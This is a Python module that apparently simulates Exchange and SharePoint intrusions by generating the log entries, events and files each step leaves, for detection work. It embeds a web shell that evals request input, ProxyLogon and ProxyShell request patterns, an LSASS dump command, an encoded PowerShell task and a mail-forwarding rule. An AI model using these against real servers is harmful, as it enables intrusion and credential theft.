"""What intruders do to servers, step by step, and what each step leaves in which log.

Nothing here attacks anything: these functions add rows, events and files. Facts: the public
accounts named at each act. `who` is a Who; `general` traces are what any intruder leaves.
"""
import dataclasses
import hashlib

import world
from server import DAY, HOUR, MINUTE, SECOND, guid, packed_version
from world import EX, EX_WIN, SYSTEM32, W3WP, cmdlet, ecp, process, request, static, table

PL, PS, PT = "exchange-proxylogon", "exchange-proxyshell", "exchange-proxytoken"
NS, OW = "exchange-proxynotshell", "exchange-owassrf"
C0688, C42321 = "exchange-2020-0688", "exchange-2021-42321"
TS, SB, SN = "sharepoint-toolshell", "solarwinds-sunburst", "solarwinds-supernova"
WEB, GENERAL = "web-server-intrusion", "back-doors"
PYTHON = "python-requests/2.25.1"
COOKIE_VERSION = packed_version((15, 1, 1466, 0))
ECP_HINT, OWA_HINT = "X-BEResource-Cookie", "X-AnonResource-Backend-Cookie"


@dataclasses.dataclass
class Who:
    """Who acts. role: intruder, scanner, guesser, health_probe, administrator."""
    address: str
    name: str = ""
    role: str = "intruder"
    agent: str = PYTHON
    process: str = ""
    user: str = ""

    def told(self):
        return {"address": self.address, "role": self.role, "process": self.process}


@dataclasses.dataclass
class Shell:
    """A page that an intruder leaves: its web path and where it lies below C:."""
    web: str
    path: str
    text: bytes = b""
    changed: int = 0

    @property
    def windows(self):
        return "C:\\" + self.path.replace("/", "\\")


def shell_at(web):
    """The shell of a web path of an Exchange or SharePoint server."""
    if web.startswith("/aspnet_client/"):
        return Shell(web, "inetpub/wwwroot" + web)
    if web.startswith("/_layouts/"):
        return Shell(web, "Program Files/Common Files/microsoft shared/Web Server Extensions/16/"
                     "TEMPLATE/LAYOUTS/" + web.rsplit("/", 1)[1])
    if web.startswith("/owa/auth/") or web.startswith("/ecp/auth/"):
        return Shell(web, EX + "FrontEnd/HttpProxy" + web)
    return Shell(web, "inetpub/wwwroot" + web)


def one_liner(key="made"):
    """A page that would run what a request brings, as text that nothing here serves."""
    return ('<%@ Page Language="Jscript"%><%ev' + 'al(Request.Item["' + key +
            '"],"unsafe");%>\r\n').encode()


def script_url(key="orange", head="http://f/"):
    body = "function Page_Load(){/**/ev" + "al(Request[\"" + key + "\"],\"unsafe\");}"
    return (head + "<scr" + "ipt language=\"JScript\" runat=\"server\">" + body + "</scr" + "ipt>")


def dump(host, changed, key="orange"):
    """The address book's directory as Exchange writes it out when it is reset."""
    build = host.build_at(changed)
    domain = host.org.domain
    when = world.moment(changed)
    us = "%d/%d/%d %d:%s" % (when.month, when.day, when.year, (when.hour + 11) % 12 + 1,
                             when.strftime("%M:%S %p"))
    entries = (
        ("Name", "OAB (Default Web Site)"), ("PollInterval", "480"),
        ("OfflineAddressBooks", "\\Default Offline Address Book"), ("RequireSSL", "True"),
        ("BasicAuthentication", "False"), ("WindowsAuthentication", "True"),
        ("OAuthAuthentication", "True"), ("MetabasePath", "IIS://%s/W3SVC/1/ROOT/OAB" % host.fqdn),
        ("Path", EX_WIN + "FrontEnd\\HttpProxy\\OAB"), ("ExtendedProtectionTokenChecking", "None"),
        ("ExtendedProtectionFlags", ""), ("ExtendedProtectionSPNList", ""),
        ("AdminDisplayVersion", "Version %d.%d (Build %d.%d)" % build), ("Server", host.name),
        ("InternalUrl", "https://%s/OAB" % host.fqdn), ("InternalAuthenticationMethods", "OAuth"),
        ("ExternalUrl", script_url(key)), ("ExternalAuthenticationMethods", "OAuth"),
        ("AdminDisplayName", ""), ("ExchangeVersion", "0.10 (14.0.100.0)"),
        ("DistinguishedName", "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=%s,CN=Servers,"
         "CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=%s"
         % (host.name, domain.replace(".", ",DC="))),
        ("Identity", host.name + "\\OAB (Default Web Site)"),
        ("Guid", guid(host.rng)), ("ObjectClass", "top"), ("WhenChanged", us),
        ("WhenCreated", us), ("WhenChangedUTC", us), ("WhenCreatedUTC", us),
        ("OrganizationId", ""), ("Id", host.name + "\\OAB (Default Web Site)"),
        ("OriginatingServer", "dc01." + domain), ("IsValid", "True"))
    lines = ["%-32s: %s" % e for e in entries]
    return ("\r\n".join([""] + lines + ["", "", ""])).encode()


# -- ProxyLogon.  Source: HelseCERT 2021-march-exchange; OTRF's recording; Volexity; CSS-Exchange --


def ssrf(host, t, who, stem, path, status=200, **v):
    """A request whose routing cookie names a path on the back end. Returns its id."""
    proto = "Owa" if stem.startswith("/owa/") else "Ecp"
    back = host.notes.get("backend_host", host)
    values = {
        "method": "POST", "agent": who.agent, "backend": status, "took": 180, "sent": 347,
        "anchor": "ServerInfo~a]@%s:444%s" % (back.fqdn, path), "version": COOKIE_VERSION,
        "hint": OWA_HINT if proto == "Owa" else ECP_HINT, "size": 2114, "status": status,
        "be_stem": path.split("?")[0], "be_query": path.partition("?")[2].rstrip("#"),
        "be_user": "%s\\%s$" % (host.org.netbios, host.name), "backend_host": back}
    if who.process:
        values["url_host"] = "localhost"
    values.update(v)
    return request(host, t, proto, stem, who.address, **values), "hp-" + proto.lower()


def _seen(host, t, campaign, axis, state, sources, mark, who, **detail):
    for source in sources:
        host.trace(source, t, campaign, axis, state, mark, who.name, initiator=who.told(),
                   **detail)


def pl_probe(host, t, who, refused=False, target="localhost"):
    """A scanner's test: nmap's, which names localhost; or one with a name outside."""
    v = {"method": "GET", "agent": who.agent, "url_host": host.ip}
    if refused:
        request(host, t, "Owa", "/owa/auth/x.js", who.address, status=404, **v)
        return
    rid, source = ssrf(host, t, who, "/owa/auth/x.js", "", status=500, down_level=True, version=3,
                       anchor="ServerInfo~%s/ecp/default.flt?" % target, target=target,
                       be_stem="/ecp/default.flt", error="ProtocolError",
                       errors="WebExceptionStatus=ProtocolError;ResponseStatusCode=500;", **v)
    _seen(host, t, PL, "entry", "probed", (source,), rid, who,
          accept=() if target == "localhost" else ("attempted",))
    # IIS has the address only, which any stranger may ask for: it proves no probe of this flaw.
    host.trace("iis-fe", t, PL, "entry", "none", rid, who.name)


def pl_refused(host, t, who):
    """Requests with a forged cookie that the server answers with an error."""
    for i, (path, name, status) in enumerate((
            ("/autodiscover/autodiscover.xml?#", "exchange", 503),
            ("/autodiscover/autodiscover.xml?#", "exch01", 503), ("/mapi/emsmdb/?#", None, 404))):
        when = t + i * 1310
        name = "%s.%s" % (name, host.org.domain) if name else host.fqdn
        rid, source = ssrf(host, when, who, "/ecp/y.js", path, status=status, backend=0, size=0,
                           anchor="ServerInfo~a]@%s:444%s" % (name, path), target=name,
                           error="NameResolutionFailure")
        _seen(host, when, PL, "entry", "attempted", (source, "iis-fe"), rid, who)


def pl_lookups(host, t, who, found=False):
    """Autodiscover asked for guessed mailboxes; with `found`, MAPI told an owner's SID."""
    paths = ["/autodiscover/autodiscover.xml?#"] * 4 + ["/mapi/emsmdb/?#"] * found
    for i, path in enumerate(paths):
        when = t + i * 2170
        rid, source = ssrf(host, when, who, "/ecp/y.js", path, size=421 + i)
        _seen(host, when, PL, "entry", "reached" if "mapi" in path else "attempted", (source,),
              rid, who)
        _seen(host, when, PL, "entry", "attempted", ("iis-fe",), rid, who)


def pl_chain(s, host, t, who, shell, dc=None, key="orange", remote_clean=True):
    """From the first forged request to the written shell, seconds apart. Returns the time after."""
    back = host.notes.get("backend_host", host)
    stem = "/ecp/%s.js" % host.rng.choice("bcfhky")
    ddi = "/ecp/DDI/DDIService.svc/%s?msExchEcpCanary=Qa_x.&schema=%s#"
    marks = []
    for offset, path, status, state in (
            (0, "/autodiscover/autodiscover.xml?#", 200, "attempted"),
            (1023, "/mapi/emsmdb/?#", 200, "reached"),
            (2213, "/ecp/proxyLogon.ecp?#", 241, "exploited"),
            (3771, ddi % ("GetObject", "OABVirtualDirectory"), 200, "reached"),
            (7225, ddi % ("SetObject", "OABVirtualDirectory"), 200, "exploited"),
            (9542, ddi % ("SetObject", "ResetOABVirtualDirectory"), 200, "exploited")):
        rid, source = ssrf(host, t + offset, who, stem, path, status=status,
                           agent="ExchangeServicesClient/0.0.0.0" if offset == 0 else who.agent)
        _seen(host, t + offset, PL, "entry", state, (source,), rid, who)
        _seen(host, t + offset, PL, "entry", "exploited" if status == 241 else "attempted",
              ("iis-fe",), rid, who)
        if "Reset" in path or status == 241:
            back.trace("iis-be", t + offset, PL, "entry", "exploited", "", who.name,
                       quiet=back is not host)
        marks.append(rid)
    for a, b in zip(marks, marks[1:]):
        s.link(host, a, host, b)
    _pl_commands(s, host, back, t, who, key, marks)
    _pl_file(s, host, back, t + 8690, who, shell, key, marks)
    if dc:
        _pl_directory(s, dc, host, t + 7160, who, key, marks)
    return t + 12 * SECOND


def _pl_commands(s, host, back, t, who, key, marks):
    put = "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Qa_x.&schema=%sOABVirtualDirectory"
    oab = "982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3"
    act = ecp(back, t + 7143, "Set-OabVirtualDirectory.ExternalUrl='%s'.Identity='%s'"
              % (script_url(key), oab), put % "")
    ecp(back, t + 9112, "Remove-OABVirtualDirectory.Force=$true.Identity='%s\\OAB (Default Web "
        "Site)'" % host.name, put % "Reset")
    ecp(back, t + 9533, "New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='%s'.Role="
        "'ClientAccess'" % host.name, put % "Reset")
    pool = "w3wp#MSExchangeECPAppPool"
    cmdlet(back, t + 7150, "Set-OabVirtualDirectory", "-ExternalUrl \"%s\" -Identity \"%s\""
           % (script_url(key), oab), pool=pool, mark="M" + act)
    cmdlet(back, t + 9120, "Remove-OabVirtualDirectory", "-Force \"True\" -Identity \"%s\\OAB "
           "(Default Web Site)\"" % host.name, pool=pool)
    cmdlet(back, t + 9540, "New-OabVirtualDirectory", "-WebSiteName \"Default Web Site\" -Server "
           "\"%s\" -Role \"ClientAccess\"" % host.name, pool=pool)
    for source, mark in (("ecp", act), ("mgmt", "M" + act)):
        for axis, state in (("entry", "exploited"), ("backdoor", "written")):
            back.trace(source, t + 7150, PL, axis, state, mark, who.name)
    s.link(host, marks[4], back, act)
    s.link(back, act, back, "M" + act)
    back.notes["oab act " + who.name] = act


def _pl_file(s, host, back, t, who, shell, key, marks):
    """The kernel writes the page for the server's own account, over \\\\127.0.0.1\\C$."""
    mark = "W" + marks[0]
    client = "127.0.0.1" if back is host else back.ip
    world.security(host, t, 5145, [
        ("SubjectUserSid", "S-1-5-18"), ("SubjectUserName", back.name + "$"),
        ("SubjectDomainName", host.org.netbios), ("SubjectLogonId", "0x3e7"),
        ("ObjectType", "File"), ("IpAddress", client), ("IpPort", "40211"),
        ("ShareName", "\\\\*\\C$"), ("ShareLocalPath", "\\??\\C:\\"),
        ("RelativeTargetName", shell.windows[3:]), ("AccessMask", "0x2"),
        ("AccessList", "%%4417\n\t\t\t\t"), ("AccessReason", "-")], mark="S" + mark)
    world.sysmon(host, t + 1, 11, [
        ("ProcessGuid", "{6004D249-0000-604D-0004-000000000900}"), ("ProcessId", "4"),
        ("Image", "System"), ("TargetFilename", shell.windows),
        ("CreationUtcTime", world.stamp(t + host.skew, " ")[:-1])], mark="Y" + mark)
    shell.text, shell.changed = dump(host, t - 1540, key), t
    host.file(shell.path, shell.text, t)
    host.notes[shell.web] = t
    for source, own in (("security", "S" + mark), ("sysmon", "Y" + mark)):
        for axis, state in (("entry", "exploited"), ("backdoor", "written")):
            host.trace(source, t, PL, axis, state, own, who.name, item=shell.web,
                       accept=("reached",) if back is not host else ())
    host.trace("web", t, PL, "backdoor", "present", "", who.name, item=shell.web, path=shell.path)
    host.trace("web", t, PL, "entry", "exploited", "", who.name, inferred=True, path=shell.path)
    s.link(back, back.notes["oab act " + who.name], host, "S" + mark)


def _pl_directory(s, dc, host, t, who, key, marks):
    """The domain controller's record of the changed object: Security 5136."""
    mark = "D" + marks[0]
    domain = host.org.domain
    world.security(dc, t, 5136, world.subject(host) + [
        ("OpCorrelationID", "{%s}" % guid(dc.rng).upper()), ("AppCorrelationID", "-"),
        ("DSName", domain), ("DSType", "%%14676"),
        ("ObjectDN", "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=%s,CN=Servers,CN=Exchange "
         "Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Org,CN=Microsoft "
         "Exchange,CN=Services,CN=Configuration,DC=%s" % (host.name, domain.replace(".", ",DC="))),
        ("ObjectGUID", "{%s}" % guid(dc.rng).upper()), ("ObjectClass", "msExchOABVirtualDirectory"),
        ("AttributeLDAPDisplayName", "msExchExternalHostName"),
        ("AttributeSyntaxOID", "2.5.5.12"), ("AttributeValue", script_url(key)),
        ("OperationType", "%%14674")], mark=mark)
    # About the server that it names, though the domain controller holds it.
    dc.trace("security", t, PL, "backdoor", "written", mark, who.name, about=host)
    dc.trace("security", t, PL, "entry", "exploited", mark, who.name, about=host)
    back = host.notes.get("backend_host", host)
    s.link(back, back.notes["oab act " + who.name], dc, mark)


def pl_mail(host, t, who, count=20, mailboxes=1, big=True):
    """Mail read over EWS through the flaw.  Source: Volexity"""
    names = "logon.css owafont_ja.css lgnbotl.gif SegoeUI-SemiBold.eot".split()
    for i in range(count):
        when = t + i * 37 * SECOND
        size = host.rng.randrange(900_000, 6_500_000) if big else host.rng.randrange(9000, 60000)
        rid, source = ssrf(host, when, who, "/owa/auth/Current/themes/resources/" +
                           host.rng.choice(names), "/EWS/Exchange.asmx?a=", size=size, sent=1210)
        _seen(host, when, PL, "entry", "exploited", (source,), rid, who)
        _seen(host, when, PL, "entry", "attempted", ("iis-fe",), rid, who)
        host.trace(source, when, PL, "action", "seen", rid, who.name, kind="collection")
        host.trace(source, when, PL, "loss", "bounds", rid, who.name, bytes=size,
                   mailbox="m%d" % (i % mailboxes))
    return t + count * 37 * SECOND


def pl_oab(host, t, who, shell=None):
    """CVE-2021-26858: the address book's generator told to fetch from elsewhere."""
    name = shell.windows if shell else "C:\\inetpub\\wwwroot\\aspnet_client\\t1.aspx"
    host.row("oab", t, "%s,Download failed and temporary file '%s' needs to be removed."
             % (world.stamp(t + host.skew), name))
    host.trace("oab", t, PL, "entry", "exploited" if shell else "attempted", "", who.name,
               accept=("attempted", "reached", "exploited"))
    # The message says that a file of this name was made: by name only, and nobody saw it.
    host.trace("oab", t, PL, "backdoor", "written", "", who.name, loose=True, accept=("removed",),
               item=None if shell else "/aspnet_client/t1.aspx")
    if shell:
        plant(host, t, shell, PL, who)


def pl_messaging(host, t, who, child=False):
    """CVE-2021-26857: a forged message to Unified Messaging."""
    world.application(host, t, "MSExchange Unified Messaging", 1081, [
        "System.InvalidCastException: Unable to cast object of type 'System.Collections.Generic."
        "SortedSet`1[System.String]' to type 'Microsoft.Exchange.UM.UMCommon.PIIMessage'."],
        level=2, mark="U" + who.name)
    host.trace("application", t, PL, "entry", "attempted", "U" + who.name, who.name,
               accept=("reached",))
    if child:
        process(host, t + SECOND, SYSTEM32 + "cmd.exe", "cmd.exe /c whoami",
                EX_WIN + "bin\\UMWorkerProcess.exe", mark="U" + who.name)
        for source in ("security", "sysmon"):
            host.trace(source, t + SECOND, PL, "entry", "exploited", "", who.name)
            host.trace(source, t + SECOND, PL, "action", "seen", "", who.name, kind="execution",
                       command="cmd.exe /c whoami")


def local_tool(host, t, who):
    """The program that a logged-on user starts on the server itself."""
    process(host, t, who.process, "python  public-poc.py localhost a.berg@" + host.org.domain,
            SYSTEM32 + "cmd.exe", user=who.user)
    for source in ("security", "sysmon"):
        host.trace(source, t, PL, "entry", "attempted", "", who.name, hint=True)


# -- pages, however they came ------------------------------------------------------------------


def plant(host, t, shell, campaign, who, text=None, general=True, seen=False):
    """A page that lies in a web folder. With `seen`, its making is recorded too."""
    shell.text, shell.changed = text or one_liner("k" + who.name), t
    host.file(shell.path, shell.text, t)
    host.trace("web", t, campaign, "backdoor", "present", "", who.name, item=shell.web,
               path=shell.path, general=general)
    if seen:
        world.sysmon(host, t, 11, [
            ("ProcessGuid", "{6004D249-0000-604D-1004-000000000900}"), ("ProcessId", "8504"),
            ("Image", W3WP.lower()), ("TargetFilename", shell.windows),
            ("CreationUtcTime", world.stamp(t + host.skew, " ")[:-1])], mark="Y" + shell.web)
        host.trace("sysmon", t, campaign, "backdoor", "written", "Y" + shell.web, who.name,
                   item=shell.web, general=general)


def visit(host, t, who, shell, campaign, method="POST", status=200, size=2402, general=True):
    """A request to the page that it answers. Returns its id, or ""."""
    v = {"method": method, "agent": who.agent, "status": status, "size": size, "took": 120,
         "sent": 214 if method == "POST" else 0}
    rid, sources = "", ("iis-fe",)
    if host.role in ("exchange", "frontend") and shell.web.startswith(("/owa/", "/ecp/")):
        proto = "Owa" if shell.web.startswith("/owa/") else "Ecp"
        rid = request(host, t, proto, shell.web, who.address, **v)
        sources = ("iis-fe", "hp-" + proto.lower())
    elif host.role in ("apache", "nginx"):
        world.access(host, t, shell.web, who.address, method, status, size, who.agent)
        sources = ("access",)
    else:
        static(host, t, shell.web, who.address, **v)
        sources = ("iis-fe",) if host.role in ("exchange", "frontend") else ("iis",)
    if status == 200:
        _seen(host, t, campaign, "backdoor", "written", sources, rid, who, item=shell.web, used=t,
              general=general)
    return rid


def compile_page(host, t, shell, campaign, who, general=True):
    """ASP.NET compiles the page when it is first asked for: what stays outlives the page."""
    if shell.web.rsplit(".", 1)[-1] not in ("aspx", "ashx", "asmx"):
        return
    path = world.compiled_path(shell.web.lower(), host.rng.getrandbits(32))
    host.file(path, world.compiled(shell.web.lower(), "App_Web_%08x" % host.rng.getrandbits(32)),
              t, "temp")
    host.trace("temp", t, campaign, "backdoor", "written", "", who.name, item=shell.web,
               general=general)


def run(s, host, t, who, shell, command, campaign, kind="execution", inner=None, pool="OWA"):
    """A command through the page: the request, and cmd.exe below w3wp."""
    visit(host, t, who, shell, campaign)
    mark = "P%s%d" % (who.name, t)
    parent = 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchange%sAppPool" -v "v4.0"' % pool
    if host.role not in ("exchange", "frontend", "backend"):
        parent = 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "%s" -v "v4.0"' % pool
    pid = process(host, t - 60, SYSTEM32 + "cmd.exe", command, W3WP, parent_command=parent,
                  mark=mark)
    if inner:
        process(host, t - 40, SYSTEM32 + inner[0], inner[1], SYSTEM32 + "cmd.exe", ppid=pid,
                parent_command=command)
    for source, letter in (("security", "S"), ("sysmon", "Y")):
        for name in sorted({"execution", kind}):
            host.trace(source, t - 60, campaign, "action", "seen", letter + mark, who.name,
                       kind=name, command=command, general=True)
    s.link(host, "S" + mark, host, "Y" + mark)
    return mark


def look_around(s, host, t, who, shell, campaign, pool="OWA"):
    for i, (command, inner) in enumerate((
            ("cmd /c whoami", ("whoami.exe", "whoami")),
            ("cmd /c ipconfig /all", ("ipconfig.exe", "ipconfig  /all")),
            ("cmd /c net group \"Domain Admins\" /domain",
             ("net.exe", "net  group \"Domain Admins\" /domain")))):
        run(s, host, t + i * 47 * SECOND, who, shell, command, campaign, inner=inner, pool=pool)


def credentials(s, host, t, who, shell, campaign, pool="OWA"):
    """The memory of LSASS to a file, with a library that Windows brings along."""
    text = ("rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 812 C:\\windows\\temp\\d.dmp "
            "full")
    run(s, host, t, who, shell, "cmd /c " + text, campaign, "credentials", ("rundll32.exe", text),
        pool)


def first_use(s, host, t, who, shell, campaign, commands=True, general=True, pool="OWA"):
    """The page is asked for, compiled, and used."""
    visit(host, t, who, shell, campaign, "GET", general=general)
    compile_page(host, t - 30, shell, campaign, who, general)
    if commands:
        look_around(s, host, t + 40 * SECOND, who, shell, campaign, pool)


def vanish(host, shell):
    """The page is no longer there; nothing says who took it."""
    host.files.pop(shell.path, None)
    host.traces = [x for x in host.traces if x.detail.get("path") != shell.path]
    host.notes["gone " + shell.web] = True


def remove_self(s, host, t, who, shell, campaign):
    """The intruder deletes the page through itself."""
    run(s, host, t, who, shell, "cmd /c del \"%s\"" % shell.windows, campaign)
    world.sysmon(host, t, 23, [
        ("ProcessGuid", "{6004D249-0000-604D-2004-000000000900}"), ("ProcessId", "23392"),
        ("User", "NT AUTHORITY\\SYSTEM"), ("Image", SYSTEM32 + "cmd.exe"),
        ("TargetFilename", shell.windows), ("Hashes", "SHA256=" + "0" * 64),
        ("IsExecutable", "false"), ("Archived", "true")])
    vanish(host, shell)
    for source in ("security", "sysmon"):
        host.trace(source, t, campaign, "backdoor", "removed", "", who.name, item=shell.web,
                   general=True, removed=t)


def remove_defender(host, t, shell, campaign, who):
    """Defender takes the page away: events 1116 and 1117."""
    for event_id, action in ((1116, "Not Applicable"), (1117, "Quarantine")):
        host.event("defender", t + (event_id - 1116) * 2 * SECOND,
                   "Microsoft-Windows-Windows Defender", event_id, [
                       ("Product Name", "Windows Defender Antivirus"),
                       ("Threat Name", "Exploit:Script/Exmann.A!dha"), ("Severity Name", "Severe"),
                       ("Category Name", "Exploit"), ("Path", "file:_" + shell.windows),
                       ("Detection User", "NT AUTHORITY\\SYSTEM"),
                       ("Process Name", "C:\\Windows\\System32\\inetsrv\\w3wp.exe"),
                       ("Action Name", action), ("Error Code", "0x00000000")],
                   guid="11CD958A-C507-4EF3-B3F2-5FD9DFBD2C78")
    vanish(host, shell)
    host.trace("defender", t, campaign, "backdoor", "removed", "", who.name, item=shell.web,
               general=True, removed=t)


def persist_task(host, t, who, campaign, general=True):
    """A task that starts a script every 45 minutes: Security 4698."""
    text = ("<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task version=\"1.2\" xmlns=\"http://schemas"
            ".microsoft.com/windows/2004/02/mit/task\"><Actions><Exec><Command>powershell.exe"
            "</Command><Arguments>-nop -w hidden -enc SQBFAFgAIAAoAG4AZQB3AC0AbwBiAGoAZQBjAHQA"
            "</Arguments></Exec></Actions></Task>")
    world.security(host, t, 4698, world.subject(host) + [
        ("TaskName", "\\Winnet"), ("TaskContent", text)], mark="T" + who.name)
    host.trace("security", t, campaign, "backdoor", "written", "T" + who.name, who.name,
               general=general, loose=True)
    host.trace("security", t, campaign, "action", "seen", "T" + who.name, who.name,
               kind="persistence", general=general, loose=True)


def steal_archive(s, host, t, who, campaign, size=31_400_000, web="/aspnet_client/it.zip",
                  keep=True):
    """An archive put into a web folder and fetched from there."""
    shell = shell_at(web)
    if keep:
        host.file(shell.path, b"PK\3\4\x14\0\0\0\x08\0" + bytes(3000), t)
    static(host, t + 5 * MINUTE, web, who.address, agent=who.agent, size=size, took=41000)
    source = "iis-fe" if host.role in ("exchange", "frontend") else "iis"
    detail = {"bytes": size} if host.sizes else {}
    host.trace(source, t + 5 * MINUTE, campaign, "loss", "bounds", "", who.name, general=True,
               **detail)
    return shell


def guess(host, t, who, names=None, count=25):
    """One address asks for many names that shells had: none of them is here."""
    names = names or ("web help document errorEE errorFF healthcheck aspnet_www xx shell one bob "
                      "OutlookEN errorPage fatal-erro log logg logout shel shel2 a default Server "
                      "iispage s session services supp0rt discover HttpProxy t client load").split()
    for i, name in enumerate(names[:count]):
        when = t + i * 900
        if i % 3:
            request(host, when, "Owa", "/owa/auth/%s.aspx" % name, who.address, status=302,
                    agent=who.agent, took=5)
        else:
            static(host, when, "/aspnet_client/%s.aspx" % name, who.address, status=404,
                   agent=who.agent, took=3)
    # Being asked for shells says nothing of a flaw: no state, and at most that somebody looked.
    host.trace("iis-fe", t, PL, "entry", "none", "", who.name, initiator=who.told(), guesser=True)


# -- ProxyShell.  Source: knowledge B5: Sigma web rules, signature-base, hamad-she ------------------


def _confused(host, path):
    return "?@%s%s&Email=autodiscover/autodiscover.json%%3F@%s" % (
        host.org.domain, path, host.org.domain)


def ps_step(host, t, who, path, status, state, method="GET", **detail):
    rid = request(host, t, "Autodiscover", "/autodiscover/autodiscover.json", who.address,
                  method=method, agent=who.agent, query=_confused(host, path), status=status,
                  backend=status if status in (200, 302) else None, size=900,
                  be_stem=path.split("?")[0], be_query=path.partition("?")[2],
                  be_user="%s\\%s$" % (host.org.netbios, host.name))
    _seen(host, t, PS, "entry", state, ("hp-autodiscover", "iis-fe"), rid, who, **detail)
    return rid


def ps_scan(host, t, who, answered=True):
    """A scanner's one request: answered 200 where the flaw is, 400 or 401 where it is not."""
    ps_step(host, t, who, "/mapi/nspi/?", 200 if answered else 400,
            "reached" if answered else "attempted",
            accept=("probed", "attempted") if answered else ("probed",))


def ps_lookup(host, t, who):
    """Autodiscover and MAPI answered: the address's owner and his SID are known."""
    a = ps_step(host, t, who, "/autodiscover/autodiscover.xml?", 200, "reached", "POST",
                accept=("attempted",))
    b = ps_step(host, t + 1400, who, "/mapi/emsmdb/?", 200, "reached", "POST")
    return a, b


def ps_shell(s, host, t, who, shell, certificate=False, cleanup=True):
    """The whole chain: remote PowerShell as somebody else, and a page written by Exchange."""
    marks = list(ps_lookup(host, t, who))
    token = "/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBZhLmJlcmdAbm9yZGhhdmVu"
    for i in range(3):
        marks.append(ps_step(host, t + 3000 + i * 900, who, token, 200, "exploited", "POST",
                             accept=("reached",) if i == 0 else ()))
    for a, b in zip(marks, marks[1:]):
        s.link(host, a, host, b)
    user = host.org.people[0][0] + "@" + host.org.domain
    table(host, "rps-http", t + 3100, AuthenticationType="Kerberos", IsAuthenticated="true",
          AuthenticatedUser=user, ClientIpAddress=host.ip, HttpStatus="200", UrlHost=host.fqdn,
          UrlStem="/powershell", ClientInfo="python", Action="New-PSSession")
    if certificate:
        commands = [("New-ExchangeCertificate", "-GenerateRequest \"True\" -RequestFile \"\\\\"
                     "localhost\\c$\\%s\" -SubjectName \"CN=x\" -BinaryEncoded \"True\""
                     % shell.windows[3:])]
        text = b"\x30\x82\x04\x00\x30\x82\x03\x00" + bytes(90) + one_liner() + bytes(60)
    else:
        commands = [
            ("New-ManagementRoleAssignment", "-Role \"Mailbox Import Export\" -User \"%s\"" % user),
            ("New-MailboxExportRequest", "-Mailbox \"%s\" -IncludeFolders (\"#Drafts#\") "
             "-ContentFilter \"(Subject -eq 'qx81hs')\" -ExcludeDumpster \"True\" -FilePath \"\\\\"
             "127.0.0.1\\c$\\%s\"" % (user, shell.windows[3:]))]
        text = b"!BDN" + bytes(2000) + one_liner() + bytes(270_000)
    if cleanup and not certificate:
        commands.append(("Remove-MailboxExportRequest", "-Identity \"x\" -Confirm \"False\""))
    for i, (name, parameters) in enumerate(commands):
        when = t + 5000 + i * 2500
        mark = "C%s%d" % (who.name, i)
        cmdlet(host, when, name, parameters, "%s/Users/a.berg" % host.org.domain, mark=mark)
        row = table(host, "rps-cmdlet", when, ProcessName="w3wp#MSExchangePowerShellAppPool",
                    AuthenticatedUser=user, Cmdlet=name, Parameters=parameters,
                    ExecutionResult="Success")
        told = (("mgmt", mark), ("rps-cmdlet", row))
        for source, own in told:
            if name == "New-ManagementRoleAssignment":  # a right that nobody gave
                host.trace(source, when, PS, "action", "seen", own, who.name, loose=True,
                           kind="persistence", general=True)
            if "Export" in name:
                host.trace(source, when, PS, "action", "seen", own, who.name, loose=True,
                           kind="collection", general=True)
                # What was exported lies where it can be fetched.
                host.trace(source, when, PS, "loss", "bounds", own, who.name, loose=True,
                           general=True)
        if "aspx" in parameters:
            for source, own in told:
                host.trace(source, when, PS, "backdoor", "written", own, who.name, item=shell.web,
                           general=True)
                s.link(host, marks[-1], host, own)
    plant(host, t + 9000, shell, PS, who, text)
    return t + 12 * SECOND


# -- the other flaws of Exchange -------------------------------------------------------------------


def pt_token(host, t, who, success=True):
    """ProxyToken: 500 for the canary, then a rule that forwards.  Source: knowledge B5"""
    victim = "%s@%s" % (host.org.people[3][0], host.org.domain)
    stem = "/ecp/%s/RulesEditor/InboxRules.svc/NewObject" % victim
    for i, status in enumerate((500, 200) if success else (500, 500)):
        rid = request(host, t + i * 1500, "Ecp", stem, who.address, method="POST", agent=who.agent,
                      status=status, backend=status, query="?SecurityToken=x&msExchEcpCanary=y")
        _seen(host, t + i * 1500, PT, "entry", "exploited" if status == 200 else "attempted",
              ("hp-ecp", "iis-fe"), rid, who,
              accept=("reached",) if status == 200 else ("probed", "reached"))
    if success:
        act = ecp(host, t + 1400, "New-InboxRule.ForwardTo='out@mail.example'.Name='r'.Mailbox='%s'"
                  % victim, "/ecp/%s/RulesEditor/InboxRules.svc/NewObject" % victim)
        host.trace("ecp", t + 1400, PT, "entry", "exploited", act, who.name)
        host.trace("hp-ecp", t + 1500, PT, "loss", "bounds", rid, who.name, loose=True)
        host.trace("ecp", t + 1400, PT, "backdoor", "written", act, who.name, loose=True,
                   general=True)
        host.trace("ecp", t + 1400, PT, "action", "seen", act, who.name, loose=True,
                   kind="persistence", general=True)


def ns_request(host, t, who, status=200, user="b.dahl", child=False):
    """ProxyNotShell: an authenticated request that reaches PowerShell."""
    account = host.org.netbios + "\\" + user
    rid = request(host, t, "Autodiscover", "/autodiscover/autodiscover.json", who.address,
                  method="POST", agent=who.agent, user=account, status=status,
                  query="?a@%s/powershell/&Email=autodiscover/autodiscover.json%%3f@%s"
                  % (host.org.domain, host.org.domain), auth="Basic",
                  backend=status if status == 200 else None, be_stem="/powershell/")
    _seen(host, t, NS, "entry", "reached" if status == 200 else "attempted",
          ("hp-autodiscover", "iis-fe"), rid, who,
          accept=("exploited",) if status == 200 else ("probed",))
    if status == 200:
        table(host, "rps-http", t + 60, AuthenticationType="Kerberos", IsAuthenticated="true",
              AuthenticatedUser=account, ClientIpAddress=host.ip, HttpStatus="200",
              UrlHost=host.fqdn, UrlStem="/powershell", ClientInfo="python")
    if child:
        powershell_child(host, t + 2000, who, NS)


def powershell_child(host, t, who, campaign, pool="MSExchangePowerShellAppPool",
                     command="cmd.exe /c whoami"):
    """A process below the worker of an application pool that starts none."""
